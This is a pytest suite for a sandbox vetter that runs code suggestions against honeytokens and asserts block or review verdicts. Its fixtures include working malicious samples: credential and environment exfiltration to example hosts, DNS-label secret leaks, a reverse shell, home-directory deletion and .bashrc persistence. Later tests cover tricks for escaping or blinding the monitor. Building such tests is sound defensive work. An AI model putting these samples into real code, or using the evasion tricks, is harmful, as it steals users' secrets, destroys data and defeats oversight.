"""Micro-execution and honeytokens, end to end: suggestions that are function bodies placed in their
documents, vetted by the pipeline on both backends (a small labelled corpus; each decision asserted),
and the ways a suggestion could dodge the exercise or the honeytokens."""

from __future__ import annotations

import textwrap

import pytest

from sandgate.findings import Verdict
from sandgate.pipeline import Vetter
from sandgate.policy.load import load_effective
from sandgate.suggestion import Suggestion

DOC = '''"""Service helpers."""
import asyncio
import hashlib
import json
import os
import shutil
import socket
import subprocess
import tempfile
import urllib.request
from dataclasses import dataclass
from pathlib import Path

import httpx
import requests

CACHE = Path.home() / ".cache" / "svc"


def existing_helper(x):
    return x * 2


class Client:
    def __init__(self, base_url: str, token: str = ""):
        self.base_url = base_url
        self.token = token

'''

# (name, suggestion placed at the end of DOC, decision under balanced)
MALICIOUS = [
    (
        "aws-credentials-posted",
        """
def upload_report(report_id: str) -> None:
    creds = Path(os.path.expanduser("~/.aws/credentials")).read_text()
    httpx.post("https://metrics-collector.example.net/r", data={"id": report_id, "c": creds}, timeout=10)
""",
        Verdict.BLOCK,
    ),
    (
        "cache-cleaner-deletes-home",
        """
def clear_cache() -> None:
    target = os.path.expanduser("~")
    shutil.rmtree(target, ignore_errors=True)
""",
        Verdict.BLOCK,
    ),
    (
        "env-secret-as-dns-label",
        """
def health_ping() -> bool:
    tag = os.environ.get("AWS_SECRET_ACCESS_KEY", "")[:24].replace("/", "").lower()
    try:
        socket.gethostbyname(tag + ".status.example.org")
    except OSError:
        return False
    return True
""",
        Verdict.BLOCK,
    ),
    (
        "environ-posted-by-method",
        """
    def fetch(self, path: str) -> dict:
        requests.post("https://telemetry.example.io/v1", json=dict(os.environ), timeout=5)
        return requests.get(self.base_url + path, timeout=5).json()
""",
        Verdict.BLOCK,
    ),
    (
        "bashrc-persistence",
        """
def install_completion() -> None:
    with open(os.path.expanduser("~/.bashrc"), "a") as rc:
        rc.write("eval \\"$(svc completion bash)\\"\\n")
""",
        Verdict.BLOCK,
    ),
    (
        "reverse-shell",
        """
def debug_console(port: int = 4444) -> None:
    s = socket.socket()
    s.connect(("203.0.113.50", port))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/sh", "-i"])
""",
        Verdict.BLOCK,
    ),
    (
        "ssh-key-in-process-argument",
        """
def sync_keys(host: str) -> None:
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    subprocess.run(["ssh-keygen", "-y", "-f", "/dev/stdin", key[40:120]], check=False)
""",
        Verdict.BLOCK,
    ),
    (
        "secret-file-scan",
        """
def find_config() -> list:
    import glob
    found = []
    for pattern in ("/root/.ssh/*", os.path.expanduser("~/.ssh/*")):
        found += glob.glob(pattern)
    return [open(p).read() for p in found]
""",
        Verdict.REVIEW,
    ),
]

BENIGN = [
    (
        "http-get-with-timeout",
        """
def fetch_json(url: str, timeout: float = 10.0) -> dict:
    resp = requests.get(url, timeout=timeout)
    resp.raise_for_status()
    return resp.json()
""",
    ),
    (
        "git-argv",
        """
def current_branch(repo: str) -> str:
    out = subprocess.run(["git", "-C", repo, "rev-parse", "--abbrev-ref", "HEAD"], capture_output=True, text=True)
    return out.stdout.strip()
""",
    ),
    (
        "atomic-json-write",
        """
def save_state(path: Path, state: dict) -> None:
    fd, tmp = tempfile.mkstemp(dir=path.parent, suffix=".tmp")
    with os.fdopen(fd, "w") as f:
        json.dump(state, f)
    os.replace(tmp, path)
""",
    ),
    (
        "asyncio-gather",
        """
async def gather_squares(n: int = 3) -> list:
    async def one(i):
        await asyncio.sleep(0.5)
        return i * i
    return await asyncio.gather(*(one(i) for i in range(n)))
""",
    ),
    (
        "scrypt-hash",
        """
def hash_password(password: str, salt: bytes) -> bytes:
    return hashlib.scrypt(password.encode(), salt=salt, n=2**10, r=8, p=1)
""",
    ),
    (
        "method-uses-token-for-header",
        """
    def headers(self) -> dict:
        token = self.token or os.environ.get("API_TOKEN", "")
        return {"Authorization": f"Bearer {token}", "Accept": "application/json"}
""",
    ),
    (
        "dataclass-method",
        """
@dataclass
class Order:
    qty: int
    price: float

    def total(self) -> float:
        return round(self.qty * self.price * 1.2, 2)
""",
    ),
    (
        "retry-with-sleep",
        """
def with_retries(fn, attempts: int = 5):
    import time
    for i in range(attempts):
        try:
            return fn()
        except Exception:
            time.sleep(2 ** i)
    raise RuntimeError("gave up")
""",
    ),
]


@pytest.fixture(scope="module", params=["docker", "bwrap"])
def vetter(request):
    v = Vetter(load_effective(None, preset="balanced"), backend=request.param)
    backend, probes = v.backend()
    assert backend is not None and backend.name == request.param, probes
    v.warm()
    return v


def vet(vetter, snippet: str):
    text = textwrap.dedent(snippet).lstrip("\n") if not snippet.startswith("\n    ") else snippet.lstrip("\n")
    lines = DOC.count("\n")
    return vetter.vet(Suggestion(text, document=DOC, line=lines, character=0, path="svc.py"))


def test_corpus(vetter):
    wrong = []
    for name, snippet, expected in MALICIOUS:
        result = vet(vetter, snippet)
        if result.verdict is not expected:
            wrong.append((name, result.verdict, [f.rule for f in result.findings]))
    for name, snippet in BENIGN:
        result = vet(vetter, snippet)
        if result.verdict is not Verdict.ALLOW:
            wrong.append(
                (name, result.verdict, [(f.rule, f.message[:90]) for f in result.findings if f.severity.value > 0])
            )
    assert not wrong, wrong


def test_findings_name_the_function_and_line(vetter):
    result = vet(vetter, MALICIOUS[0][1])
    leak = next(f for f in result.findings if f.rule == "secret.exfiltration")
    assert "upload_report()" in leak.message and "httpx.post" in leak.message
    assert leak.line == DOC.count("\n") + 3  # the httpx.post line of the suggestion
    read = next(f for f in result.findings if f.rule == "secret.honeytoken-read")
    assert read.detail("token") == "~/.aws/credentials"


def test_honeytoken_in_a_name_lookup_is_exfiltration(vetter):
    result = vet(vetter, MALICIOUS[2][1])
    leak = [f for f in result.findings if f.rule == "secret.exfiltration"]
    assert leak and "name look-up" in leak[0].message and "health_ping()" in leak[0].message


def test_exiting_from_the_exercise_is_held(vetter):
    result = vet(
        vetter,
        """
def quiet() -> None:
    os._exit(0)
""",
    )
    assert result.verdict is Verdict.BLOCK
    assert "monitor.tampered" in {f.rule for f in result.findings}


def test_switching_the_exercise_off_is_held(vetter):
    # The module body stops the process before the exercise with a clean exit of its own.
    result = vet(
        vetter,
        """
def steal() -> None:
    requests.post("https://x.example.net", data=open(os.path.expanduser("~/.netrc")).read())

import sys, atexit
atexit._clear()
sys.exit(0)
""",
    )
    rules = {f.rule for f in result.findings}
    assert result.verdict is Verdict.BLOCK, rules
    assert "secret.exfiltration" in rules  # the exercise still ran after the module's SystemExit


def test_deleting_or_rewriting_honeyfiles_is_seen(vetter):
    result = vet(
        vetter,
        """
def tidy() -> None:
    home = os.path.expanduser("~")
    open(home + "/.aws/credentials", "w").write("[default]\\n")
    os.unlink(home + "/.ssh/id_rsa")
""",
    )
    paths = {f.detail("path") for f in result.findings if f.rule == "fs.write-outside-scratch"}
    assert {"/home/sandbox/.aws/credentials", "/home/sandbox/.ssh/id_rsa"} <= paths
    assert result.verdict is Verdict.BLOCK


def test_patching_the_stand_ins_does_not_hide_the_record(vetter):
    # The code reaches the stand-in class through its argument and blinds it; the read of the
    # honeyfile is still recorded by the supervisor.
    result = vet(
        vetter,
        """
def sneaky(client) -> None:
    type(client).__call__ = lambda *a, **k: None
    data = open(os.path.expanduser("~/.docker/config.json")).read()
    client.send(data)
""",
    )
    rules = {f.rule for f in result.findings}
    assert "secret.honeytoken-read" in rules and "fs.read-outside-workspace" in rules
    assert result.verdict is Verdict.REVIEW
